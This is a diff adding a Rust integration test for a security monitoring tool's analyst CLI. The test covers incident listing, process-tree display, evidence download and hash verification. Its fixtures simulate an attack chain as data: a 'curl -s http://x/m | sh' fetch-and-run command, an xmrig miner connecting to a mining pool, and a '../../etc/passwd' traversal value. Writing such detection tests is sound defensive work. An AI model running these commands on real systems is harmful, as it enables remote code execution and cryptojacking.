@@ -1,0 +1,328 @@
+//! The `vigil` CLI against a real collector.
+
+mod common;
+
+use std::path::Path;
+use std::process::{Command, Output};
+
+use common::{bundle, sha256_hex, Backend, Collector, Pki};
+use vigil_proto::{Detection, DetectionBatch, Event, EventBatch, EvidenceChunk};
+
+fn vigil(c: &Collector, pki: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_vigil"))
+        .arg("--collector")
+        .arg(c.url())
+        .arg("--pki")
+        .arg(pki)
+        .args(args)
+        .output()
+        .expect("running vigil")
+}
+
+fn stdout(o: &Output) -> String {
+    assert!(
+        o.status.success(),
+        "vigil failed: {:?}\nstdout: {}\nstderr: {}",
+        o.status,
+        String::from_utf8_lossy(&o.stdout),
+        String::from_utf8_lossy(&o.stderr)
+    );
+    String::from_utf8(o.stdout.clone()).unwrap()
+}
+
+/// A detection line; `process` is (pid, exe, argv as JSON).
+fn detection(
+    sec: u32,
+    process: (u32, &str, &str),
+    rule: &str,
+    sev: &str,
+    chain: &str,
+    evidence: &str,
+) -> Detection {
+    let (pid, exe, argv) = process;
+    Detection::from_agent_json(&format!(
+        r#"{{"time":"2026-11-26T14:09:{sec:02}Z","rule":"{rule}","severity":"{sev}","mitre":["T1059"],"summary":"{rule} by {exe}","process":{{"pid":{pid},"ppid":0,"exe":"{exe}","comm":"x","argv":{argv},"uid":33,"workload":{{"kind":"systemd","cgroup":"/system.slice/app.service","systemd_unit":"app.service"}}}},"ancestry":{chain},"evidence":{evidence}}}"#
+    ))
+    .unwrap()
+}
+
+async fn analyst_cli_lists_shows_downloads_and_verifies(backend: Backend) {
+    let pki = Pki::new();
+    let data = tempfile::tempdir().unwrap();
+    let c = Collector::start(backend, &pki, data.path(), &[]);
+    let bytes = bundle(3 << 20, 5);
+    let id = sha256_hex(&bytes);
+
+    let node = r#"{"pid":100,"exe":"/usr/bin/node","argv":["node","server.js"]}"#;
+    let init = r#"{"pid":1,"exe":"/sbin/init","argv":["/sbin/init"]}"#;
+    let sh = r#"{"pid":200,"exe":"/bin/sh","argv":["sh","-c","curl -s http://x/m | sh"]}"#;
+    let dets = vec![
+        detection(
+            1,
+            (200, "/bin/sh", r#"["sh","-c","curl -s http://x/m | sh"]"#),
+            "server_shell",
+            "high",
+            &format!("[{node},{init}]"),
+            "null",
+        ),
+        detection(
+            2,
+            (201, "/usr/bin/curl", r#"["curl","-s","http://x/m"]"#),
+            "downloader",
+            "medium",
+            &format!("[{sh},{node},{init}]"),
+            "null",
+        ),
+        detection(
+            4,
+            (
+                203,
+                "/tmp/.x/xmrig",
+                r#"["xmrig","-o","stratum+tcp://pool:3333"]"#,
+            ),
+            "miner",
+            "critical",
+            &format!("[{sh},{node},{init}]"),
+            &format!(r#""{id}""#),
+        ),
+    ];
+    let events: Vec<Event> = [
+        r#"{"time":"2026-11-26T14:09:03Z","type":"exec","pid":202,"ppid":200,"exe":"/usr/bin/chmod","argv":["chmod","+x","/tmp/.x/xmrig"],"process":{"pid":202,"ppid":200,"exe":"/usr/bin/chmod","workload":{"kind":"systemd","cgroup":"/system.slice/app.service","systemd_unit":"app.service"}}}"#,
+        r#"{"time":"2026-11-26T14:09:05Z","type":"connect","pid":203,"process":{"pid":203,"ppid":200,"exe":"/tmp/.x/xmrig","argv":["xmrig"]},"daddr":"10.0.0.9","dport":3333}"#,
+    ]
+    .iter()
+    .map(|j| Event::from_agent_json(j).unwrap())
+    .collect();
+    let mut ingest = c.ingest(&pki, "agent-1").await;
+    ingest
+        .push_events(tokio_stream::iter(vec![EventBatch {
+            batch_id: "e".into(),
+            events,
+        }]))
+        .await
+        .unwrap();
+    ingest
+        .push_detections(tokio_stream::iter(vec![DetectionBatch {
+            batch_id: "d".into(),
+            detections: dets,
+        }]))
+        .await
+        .unwrap();
+    let chunks: Vec<EvidenceChunk> = bytes
+        .chunks(1 << 20)
+        .enumerate()
+        .map(|(i, ch)| EvidenceChunk {
+            bundle_id: id.clone(),
+            total_size: bytes.len() as u64,
+            offset: (i << 20) as u64,
+            data: ch.to_vec(),
+            label: "core+context".into(),
+        })
+        .collect();
+    assert!(
+        ingest
+            .upload_evidence(tokio_stream::iter(chunks))
+            .await
+            .unwrap()
+            .into_inner()
+            .complete
+    );
+
+    // incidents list
+    let out = stdout(&vigil(&c, pki.path(), &["incidents", "list"]));
+    assert!(out.starts_with("ID "), "{out}");
+    assert!(out.contains("server_shell by /bin/sh"), "{out}");
+    assert!(out.contains("critical"), "{out}");
+    let json: serde_json::Value = serde_json::from_str(&stdout(&vigil(
+        &c,
+        pki.path(),
+        &["incidents", "list", "--json"],
+    )))
+    .unwrap();
+    let list = json.as_array().unwrap();
+    assert_eq!(list.len(), 1);
+    assert_eq!(list[0]["detection_count"], 3);
+    assert_eq!(list[0]["agent"], "agent-1");
+    let incident = list[0]["id"].as_i64().unwrap().to_string();
+    let none = stdout(&vigil(
+        &c,
+        pki.path(),
+        &["incidents", "list", "--search", "nothing-like-this"],
+    ));
+    assert_eq!(none.trim(), "no incidents");
+
+    // incidents show: tree, timeline, evidence
+    let out = stdout(&vigil(&c, pki.path(), &["incidents", "show", &incident]));
+    println!("{out}");
+    let tree = "\
+node server.js (/usr/bin/node)  [pid 100]
+`-- sh -c \"curl -s http://x/m | sh\" (/bin/sh)  [pid 200]  <- server_shell
+    |-- curl -s http://x/m (/usr/bin/curl)  [pid 201]  <- downloader
+    |-- chmod +x /tmp/.x/xmrig (/usr/bin/chmod)  [pid 202]
+    `-- xmrig -o stratum+tcp://pool:3333 (/tmp/.x/xmrig)  [pid 203]  <- miner
+";
+    assert!(out.contains(tree), "{out}");
+    assert!(out.contains("DETECTION CRITICAL miner"), "{out}");
+    assert!(out.contains("connect"), "{out}");
+    assert!(
+        out.contains(&format!("{id}  3.0 MiB  from agent-1")),
+        "{out}"
+    );
+    let json: serde_json::Value = serde_json::from_str(&stdout(&vigil(
+        &c,
+        pki.path(),
+        &["incidents", "show", &incident, "--json"],
+    )))
+    .unwrap();
+    assert_eq!(json["tree"][0]["pid"], 100);
+    assert_eq!(json["detections"].as_array().unwrap().len(), 3);
+    assert_eq!(json["detections"][0]["detection"]["rule"], "server_shell");
+    assert_eq!(json["evidence"][0]["bundle_id"], id.as_str());
+
+    // detections list
+    let out = stdout(&vigil(
+        &c,
+        pki.path(),
+        &["detections", "list", "--rule", "miner"],
+    ));
+    assert_eq!(out.lines().count(), 2, "{out}");
+    let out = stdout(&vigil(
+        &c,
+        pki.path(),
+        &["detections", "list", "--min-severity", "high", "--json"],
+    ));
+    assert_eq!(
+        serde_json::from_str::<serde_json::Value>(&out)
+            .unwrap()
+            .as_array()
+            .unwrap()
+            .len(),
+        2
+    );
+
+    // evidence get + verify
+    let dl = tempfile::tempdir().unwrap();
+    let file = dl.path().join(format!("{id}.zst"));
+    let out = stdout(&vigil(
+        &c,
+        pki.path(),
+        &["evidence", "get", &id, "-o", file.to_str().unwrap(), "-q"],
+    ));
+    assert!(out.contains("verified"), "{out}");
+    assert_eq!(std::fs::read(&file).unwrap(), bytes);
+    let out = stdout(&vigil(
+        &c,
+        pki.path(),
+        &["evidence", "verify", file.to_str().unwrap()],
+    ));
+    assert!(out.contains("OK   sha256"), "{out}");
+    // An interrupted download resumes from its .part file.
+    let resumed = dl.path().join("resumed.zst");
+    std::fs::write(dl.path().join("resumed.zst.part"), &bytes[..(1 << 20) + 7]).unwrap();
+    stdout(&vigil(
+        &c,
+        pki.path(),
+        &[
+            "evidence",
+            "get",
+            &id,
+            "-o",
+            resumed.to_str().unwrap(),
+            "-q",
+        ],
+    ));
+    assert_eq!(std::fs::read(&resumed).unwrap(), bytes);
+    // A corrupt .part is caught by the hash and discarded.
+    let corrupt = dl.path().join("corrupt.zst");
+    std::fs::write(dl.path().join("corrupt.zst.part"), b"garbage").unwrap();
+    let o = vigil(
+        &c,
+        pki.path(),
+        &[
+            "evidence",
+            "get",
+            &id,
+            "-o",
+            corrupt.to_str().unwrap(),
+            "-q",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("discarded"),
+        "{o:?}"
+    );
+    assert!(!corrupt.exists());
+    assert!(!dl.path().join("corrupt.zst.part").exists());
+
+    // A tampered copy fails verification with exit status 1.
+    let tampered = dl.path().join("tampered.zst");
+    let mut t = bytes.clone();
+    t[1000] ^= 1;
+    std::fs::write(&tampered, &t).unwrap();
+    let o = vigil(
+        &c,
+        pki.path(),
+        &[
+            "evidence",
+            "verify",
+            tampered.to_str().unwrap(),
+            "--id",
+            &id,
+        ],
+    );
+    assert_eq!(o.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&o.stdout).contains("FAIL sha256"));
+    // Unknown bundle, malformed id: clear errors, exit 2.
+    let o = vigil(
+        &c,
+        pki.path(),
+        &[
+            "evidence",
+            "get",
+            &"0".repeat(64),
+            "-o",
+            dl.path().join("x").to_str().unwrap(),
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("NotFound"),
+        "{o:?}"
+    );
+    let o = vigil(
+        &c,
+        pki.path(),
+        &[
+            "evidence",
+            "get",
+            "../../etc/passwd",
+            "-o",
+            dl.path().join("y").to_str().unwrap(),
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+
+    // An agent certificate cannot read.
+    let agent_cert = pki.path().join("agents/agent-1.pem");
+    let agent_key = pki.path().join("agents/agent-1.key");
+    let o = vigil(
+        &c,
+        pki.path(),
+        &[
+            "--cert",
+            agent_cert.to_str().unwrap(),
+            "--key",
+            agent_key.to_str().unwrap(),
+            "incidents",
+            "list",
+        ],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        String::from_utf8_lossy(&o.stderr).contains("PermissionDenied"),
+        "{o:?}"
+    );
+}
+
+on_both_stores!(analyst_cli_lists_shows_downloads_and_verifies,);
